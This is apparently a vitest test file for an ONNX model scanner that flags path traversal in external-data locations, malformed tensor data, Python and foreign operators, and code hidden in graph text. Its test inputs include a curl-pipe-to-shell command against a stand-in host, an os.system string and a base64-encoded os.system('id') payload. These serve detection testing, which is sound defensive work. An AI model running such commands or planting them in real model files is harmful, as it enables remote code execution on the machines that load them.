// External data, sizes and operators, in files built field by field.
import { describe, expect, it } from 'vitest';
import { bytesOf, type ByteSource } from '../../core/byte-source.ts';
import { ProtobufWriter } from '../../graph/protobuf-writer.ts';
import { inspectFiles } from '../../artifact/inspect/inspect-files.ts';
import { alarms, findingsOf } from '../testing/findings-of.ts';
import { escapes } from './external-data.ts';
import { onnxStructure } from './index.ts';

interface Parts {
  readonly entries?: Readonly<Record<string, string>>;
  readonly raw?: number;
  readonly floats?: number;
  readonly dims?: readonly number[];
  readonly operator?: readonly [domain: string, type: string];
  readonly context?: readonly [mode: number, path: string];
  readonly extra?: number;
  /** How often the tensor stands there. */
  readonly copies?: number;
  readonly doc?: string;
  readonly metadata?: Readonly<Record<string, string>>;
}

function model({ entries, raw = entries === undefined ? 16 : 0, floats = 0, dims = [4], operator = ['', 'Identity'], context, extra = 0, copies = 1, doc, metadata = {} }: Parts): ByteSource {
  const file = new ProtobufWriter();
  file.integer(1, 8);
  if (doc !== undefined) file.text(6, doc);
  for (const [key, value] of Object.entries(metadata)) file.message(14, (entry) => {
    entry.text(1, key);
    entry.text(2, value);
  });
  file.message(7, (graph) => {
    graph.message(1, (node) => {
      node.text(1, 'w');
      node.text(2, 'y');
      node.text(4, operator[1]);
      node.text(7, operator[0]);
      if (context !== undefined) {
        node.message(5, (attribute) => {
          attribute.text(1, 'embed_mode');
          attribute.integer(3, context[0]);
          attribute.integer(20, 2);
        });
        node.message(5, (attribute) => {
          attribute.text(1, 'ep_cache_context');
          attribute.text(4, context[1]);
          attribute.integer(20, 3);
        });
      }
    });
    for (let copy = 0; copy < copies; copy++) graph.message(5, (tensor) => {
      for (const dim of dims) tensor.integer(1, dim);
      tensor.integer(2, 1);
      if (floats > 0) tensor.bytes(4, new Uint8Array(4 * floats));
      tensor.text(8, 'w');
      if (raw > 0) tensor.bytes(9, new Uint8Array(raw));
      for (const [key, value] of Object.entries(entries ?? {})) tensor.message(13, (entry) => {
        entry.text(1, key);
        entry.text(2, value);
      });
      if (entries !== undefined) tensor.integer(14, 1);
    });
    graph.message(12, (port) => port.text(1, 'y'));
  });
  file.message(8, (opset) => opset.integer(2, 17));
  if (extra > 0) file.bytes(77, new Uint8Array(extra));
  return bytesOf('model.onnx', file.finish());
}

const weights = bytesOf('w.bin', new Uint8Array(16));
const judge = async (parts: Parts): Promise<string[]> => alarms(await findingsOf(onnxStructure, [model(parts), weights]));

describe('ONNX structure', () => {
  it.each<readonly [string, Parts, string]>([
    ['a path upwards', { entries: { location: '../../secret' } }, 'high ASY-ONX-001'],
    ['a range beyond the file', { entries: { location: 'w.bin', offset: '8', length: '16' } }, 'medium ASY-ONX-002'],
    ['a length that is not the tensor’s', { entries: { location: 'w.bin', length: '12' } }, 'medium ASY-ONX-002'],
    ['an entry of its own', { entries: { location: 'w.bin', shell: 'x' } }, 'medium ASY-ONX-003'],
    ['values twice', { floats: 4 }, 'high ASY-ONX-004'],
    ['values inside and outside', { entries: { location: 'w.bin' }, raw: 16 }, 'high ASY-ONX-004'],
    ['too few values', { raw: 12 }, 'medium ASY-ONX-005'],
    ['dimensions beyond 2^53', { dims: [2 ** 40, 2 ** 40] }, 'medium ASY-ONX-005'],
    ['a Python operator', { operator: ['ai.onnx.contrib', 'PyOp'] }, 'high ASY-ONX-006'],
    ['an operator from elsewhere', { operator: ['my.own', 'Do'] }, 'medium ASY-ONX-007'],
    ['a compiled context from elsewhere', { operator: ['com.microsoft', 'EPContext'], context: [0, '../x.bin'] }, 'high ASY-ONX-001'],
    ['a tensor that stands there twice', { copies: 2 }, 'medium ASY-ONX-011'],
    ['bytes in an unknown field', { extra: 500 }, 'medium ASY-ONX-008'],
  ])('finds %s', async (_, parts, alarm) => {
    expect(await judge(parts)).toContain(alarm);
  });

  it('says nothing of ordinary tensors, inside or outside of the file', async () => {
    expect(await judge({})).toEqual([]);
    expect(await judge({ floats: 4, raw: 0 })).toEqual([]);
    expect(await judge({ entries: { location: 'w.bin', offset: '0', length: '16' } })).toEqual([]);
    expect(await judge({ operator: ['com.microsoft', 'FusedMatMul'] })).toEqual([]);
    expect(await judge({ operator: ['com.microsoft', 'EPContext'], context: [0, 'x.bin'] })).toEqual([]);
    expect(await judge({ operator: ['com.microsoft', 'EPContext'], context: [1, '../x.bin'] })).toEqual([]);
  });

  it('explains external data by the tensors that point at it, and what none points at not', async () => {
    const status = async (size: number, fill = 0): Promise<string | undefined> => {
      const { files } = await inspectFiles([model({ entries: { location: 'w.bin', offset: '64', length: '16' } }), bytesOf('w.bin', new Uint8Array(size).fill(fill, 80))]);
      return files.find(({ path }) => path === 'w.bin')?.status;
    };
    expect([await status(80), await status(96), await status(96, 7)]).toEqual(['inspected', 'inspected', 'partly']);
  });

  it('knows a path that leaves the folder on any system', () => {
    expect(['/x', '\\x', 'C:\\x', 'c:x', 'a/../../b', 'a\\..\\b', '~/x', 'file:///x', '', 'a\0b'].map((path) => escapes(path) !== undefined)).toEqual(Array.from({ length: 10 }, () => true));
    expect(['w.bin', 'data/w.bin', 'w..bin', '..w'].map(escapes)).toEqual([undefined, undefined, undefined, undefined]);
  });
});

describe('texts in the graph', () => {
  const judge = async (parts: Parts): Promise<string[]> => alarms(await findingsOf(onnxStructure, [model(parts)]));

  it('are told where they are code or commands', async () => {
    expect(await judge({ doc: "import os; os.system('true')" })).toEqual(['medium ASY-ONX-010']);
    expect(await judge({ metadata: { hook: 'X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=' } })).toEqual(['medium ASY-ONX-010']);
    expect(await judge({ operator: ['', 'curl -s http://host.test/x | sh'] })).toContain('medium ASY-ONX-010');
  });

  it('are ordinary otherwise', async () => {
    expect(await judge({ doc: 'Exported by somebody; call eval() before exec time is measured.', metadata: { url: 'https://host.test/model' } })).toEqual([]);
  });
});
